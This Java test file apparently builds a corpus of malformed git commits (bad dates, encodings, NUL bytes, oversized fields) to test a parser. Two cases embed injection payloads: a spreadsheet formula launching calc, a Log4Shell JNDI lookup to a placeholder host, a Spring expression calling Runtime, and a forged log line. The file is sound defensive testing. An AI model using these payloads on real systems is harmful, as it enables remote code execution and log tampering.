package dev.vibecoder.jobs.corpus;

import static dev.vibecoder.jobs.corpus.Workbench.SIGNED;
import static dev.vibecoder.jobs.corpus.Workbench.WHO;
import static dev.vibecoder.jobs.corpus.Workbench.bytes;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;

/** Headers and messages of commits. */
final class HeaderCases {

  private HeaderCases() {}

  static List<CorpusCase> all() {
    return List.of(
        header("21", "no author", "committer " + WHO + "\n", "AUTHOR_MISSING"),
        header("22", "no committer", "author " + WHO + "\n", "COMMITTER_MISSING"),
        CorpusCase.of(
                "22a",
                "commit without a byte",
                Fate.NORM,
                "AUTHOR_MISSING",
                "COMMITTER_MISSING",
                "TREE_MISSING")
            .stores(1, 0)
            .made(w -> w.git.branch("main", w.git.rawCommit(new byte[0]))),
        CorpusCase.of("22b", "commit without a tree", Fate.NORM, "TREE_MISSING")
            .stores(1, 0)
            .made(w -> w.commit(SIGNED, bytes("m\n"))),
        author("25", "empty name and address", " <> 1767603600 +0000"),
        author("26", "broken address", "A <a>-<b> 1767603600 +0000"),
        author(
            "26a",
            "no address",
            "nobody 1767603600 +0000",
            "AUTHOR_MALFORMED",
            "AUTHOR_DATE_MISSING"),
        author(
            "26b",
            "address that is never closed",
            "A <a 1767603600 +0000",
            "AUTHOR_MALFORMED",
            "AUTHOR_DATE_MISSING"),
        author("27", "name of 100 KB", "n".repeat(100_000) + " <a@x> 1 +0000", "AUTHOR_CUT"),
        author(
            "27a",
            "name and address of 100 KB that do not compress",
            kanji(30_000) + " <" + kanji(30_000) + "> 1 +0000",
            "AUTHOR_CUT"),
        author("28", "date 0", "A <a@x> 0 +0000"),
        author("29", "date before 1970", "A <a@x> -86400 +0000"),
        author("30", "date in 2100", "A <a@x> 4102444800 +0000"),
        author("30a", "date of 2^31", "A <a@x> 2147483648 +0000"),
        author(
            "31",
            "date of 2^64 - 1",
            "A <a@x> 18446744073709551615 +0000",
            "AUTHOR_DATE_OUT_OF_RANGE"),
        author(
            "31a", "date of 2^63", "A <a@x> 9223372036854775808 +0000", "AUTHOR_DATE_OUT_OF_RANGE"),
        author(
            "31b",
            "date of a thousand digits",
            "A <a@x> " + "9".repeat(1_000) + " +0000",
            "AUTHOR_DATE_OUT_OF_RANGE"),
        CorpusCase.of("33", "child ten years older than its parent", Fate.OK)
            .stores(2, 3)
            .made(
                w -> {
                  String parent = w.next().create();
                  w.commitHeader(
                      "parent " + parent + "\n" + SIGNED.replace("1767603600", "1400000000"),
                      "m\n");
                }),
        author("34", "time zone +9999", "A <a@x> 1767603600 +9999", "AUTHOR_ZONE_INVALID"),
        author("34a", "time zone -51800000", "A <a@x> 1 -51800000", "AUTHOR_ZONE_INVALID"),
        author("34b", "no time zone", "A <a@x> 1767603600", "AUTHOR_ZONE_INVALID"),
        encoded("35", "ISO-8859-1 declared", "ISO-8859-1", StandardCharsets.ISO_8859_1),
        encoded("35a", "Shift_JIS declared", "Shift_JIS", StandardCharsets.US_ASCII),
        encoded("35b", "encoding with spaces around", "  utf8  ", StandardCharsets.UTF_8),
        encoded(
            "37",
            "encoding that does not exist",
            "bogus-1",
            StandardCharsets.UTF_8,
            "ENCODING_UNKNOWN"),
        encoded(
            "37a",
            "encoding with an illegal name",
            "no such!",
            StandardCharsets.UTF_8,
            "ENCODING_UNKNOWN"),
        encoded("37b", "encoding without a name", "", StandardCharsets.UTF_8, "ENCODING_UNKNOWN"),
        encoded("37c", "encoding of escapes", "ISO-2022-CN", StandardCharsets.US_ASCII),
        message(
            "38",
            "UTF-16 message",
            "m\u00fcde".getBytes(StandardCharsets.UTF_16),
            "INVALID_MESSAGE",
            "NUL_IN_MESSAGE"),
        encoded("38a", "UTF-16 declared", "UTF-16", StandardCharsets.UTF_16),
        message(
            "38b",
            "lone surrogates",
            new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80, '\n'},
            "INVALID_MESSAGE"),
        message("39", "NUL in the message", bytes("a\0b\n"), "NUL_IN_MESSAGE"),
        message("39a", "message of NUL alone", new byte[5_000], "NUL_IN_MESSAGE"),
        author("40", "NUL in the author", "A\0b <a@\0x> 1767603600 +0000", "NUL_IN_AUTHOR"),
        header("40a", "NUL everywhere", SIGNED + "x\0y \0\0\n\0\n"),
        message("42", "empty message", new byte[0]),
        message("43", "message of 20 MB", bytes("m".repeat(20 << 20)), "MESSAGE_CUT"),
        header("44", "signature, merged tag and 5,000 headers", signed()),
        header(
            "44a",
            "header line of 5 MB before the author",
            "x " + "y".repeat(5 << 20) + "\n" + SIGNED,
            "AUTHOR_MISSING",
            "COMMITTER_MISSING"),
        header(
            "45",
            "author twice",
            "author " + WHO + "\nauthor B <b@x> 1 +0000\ncommitter " + WHO + "\n"),
        header("45a", "author after the committer", "committer " + WHO + "\nauthor " + WHO + "\n"),
        misplaced(
            "45c", "parent after the author", "author " + WHO + "\n%scommitter " + WHO + "\n"),
        misplaced("45d", "parent after another header", "x y\n%s" + SIGNED),
        CorpusCase.of("45e", "parent of 39 digits before a good one", Fate.OK)
            .stores(2, 3)
            .made(
                w ->
                    w.commitHeader(
                        "parent "
                            + "1".repeat(39)
                            + "\nparent "
                            + w.next().create()
                            + "\n"
                            + SIGNED,
                        "m\n")),
        header("45b", "lines that end as on Windows", SIGNED.replace("\n", "\r\n")),
        author(
            "91",
            "markup, formulas and escapes in the author",
            "=cmd|' /C calc'!A0 \u001b[31m<script> <x> 1767603600 +0000"),
        message(
            "92",
            "expressions and formats in the message",
            bytes("${jndi:ldap://x/a} #{T(java.lang.Runtime)} %n%n%s {} \r\nINFO forged\n")));
  }

  private static CorpusCase header(String id, String title, String lines, String... reasons) {
    return CorpusCase.of(id, title, reasons.length == 0 ? Fate.OK : Fate.NORM, reasons)
        .stores(1, 1)
        .made(w -> w.commitHeader(lines, "m\n"));
  }

  /** A parent where git sees none: it is none, but may be reached otherwise. */
  private static CorpusCase misplaced(String id, String title, String lines) {
    return CorpusCase.of(id, title, Fate.OK)
        .stores(1, 1)
        .made(w -> w.commitHeader(lines.formatted("parent " + w.next().create() + "\n"), "m\n"));
  }

  private static CorpusCase author(String id, String title, String author, String... reasons) {
    return header(id, title, "author " + author + "\ncommitter " + WHO + "\n", reasons);
  }

  private static CorpusCase message(String id, String title, byte[] message, String... reasons) {
    return CorpusCase.of(id, title, reasons.length == 0 ? Fate.OK : Fate.NORM, reasons)
        .stores(1, 1)
        .made(w -> w.commit("tree " + w.git.rawTree(w.file("f")) + "\n" + SIGNED, message));
  }

  private static CorpusCase encoded(
      String id, String title, String name, java.nio.charset.Charset real, String... reasons) {
    return CorpusCase.of(id, title, reasons.length == 0 ? Fate.OK : Fate.NORM, reasons)
        .stores(1, 1)
        .made(
            w ->
                w.commit(
                    "tree "
                        + w.git.rawTree(w.file("f"))
                        + "\n"
                        + SIGNED
                        + "encoding "
                        + name
                        + "\n",
                    "caf\u00e9\n".getBytes(real)));
  }

  /** Signs that no database page compresses, as UTF-8 in chars of one byte each. */
  private static String kanji(int signs) {
    String text =
        new java.util.Random(2)
            .ints(signs, 0x4e00, 0x9fa5)
            .mapToObj(c -> String.valueOf((char) c))
            .collect(Collectors.joining());
    return new String(bytes(text), StandardCharsets.ISO_8859_1);
  }

  private static String signed() {
    return SIGNED
        + "gpgsig -----BEGIN\n parent notreally\n author X <x> 1 +0000\n -----END\n"
        + "mergetag object 1\n type commit\n tag v1\n"
        + "x y\n".repeat(5_000);
  }
}
